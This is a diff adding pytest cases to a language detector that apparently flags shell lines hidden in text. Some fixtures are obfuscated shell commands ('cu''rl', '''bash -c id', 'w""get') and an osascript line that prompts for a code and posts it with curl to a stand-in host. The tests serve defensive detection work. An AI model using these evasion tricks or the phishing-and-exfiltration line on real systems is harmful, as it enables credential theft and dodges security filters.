@@ -313,6 +313,40 @@ def test_a_docstrings_quotes_are_no_quotes_inserted_into_a_shell_word() -> None:
 @pytest.mark.parametrize(
     "text",
     [
+        "document.getElementById('q').value = '';\nfetch('https://docs.example.org/i.json')"
+        ".then(r => r.json()).then(show);",
+        "$parts = @('a', 'b'); $s = $parts -join ''; Write-Host \"\" ; Write-Host $s",
+        'cmd /v:on /c start "" "C:\\Program Files\\Tool\\tool.exe"',
+    ],
+)
+def test_another_languages_empty_string_is_no_sign_of_a_shell(text: str) -> None:
+    """'' and "" between blanks or brackets are JavaScript's, PowerShell's or cmd's empty
+    string: such a text is not also read as a shell line (the bash grammar's error recovery
+    over a 1 KiB script: ~0.7 ms, the slowest texts of the bench)."""
+    found = languages(text.lower())
+    assert found and "posix" not in found
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # the same empty quotes, but one pair inside or beside a word: a shell's trick
+        "document.getElementById('q').value = '';\nfetch('/a').then(r => r.json()); cu''rl a.test",
+        "$s = @('a') -join ''; ''bash -c id",
+        'cmd /v:on /c start "" "C:\\Program Files\\Tool\\tool.exe" & w""get a.test',
+        # no other language's marker: a shell line's own empty string still makes its reading
+        'osascript -e \'display dialog "Code" default answer ""\' | curl -s -d @- https://a.test/p',
+    ],
+)
+def test_empty_quotes_beside_a_word_or_in_a_shell_line_still_make_a_shell_reading(
+    text: str,
+) -> None:
+    assert "posix" in languages(text.lower())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
         "import os\nimport subprocess\n\ndef args(o):\n    return ['-' + 'O', eval(o)]\n",
         "# tool\nfrom ast import literal_eval\n\nprint('a' + 'b'.replace('x', 'y'))\n",
         "@dataclass\nclass Money:\n    value: str = '0' + '.00'\n",
